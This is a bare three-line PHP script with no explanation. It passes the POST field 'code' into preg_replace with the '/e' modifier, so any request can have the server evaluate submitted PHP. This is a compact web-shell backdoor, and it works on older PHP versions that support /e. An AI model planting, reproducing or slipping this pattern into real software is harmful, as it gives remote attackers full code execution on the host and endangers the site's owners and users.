<?php
$s = "hello";
echo preg_replace("/.*/e", $_POST['code'], $s);
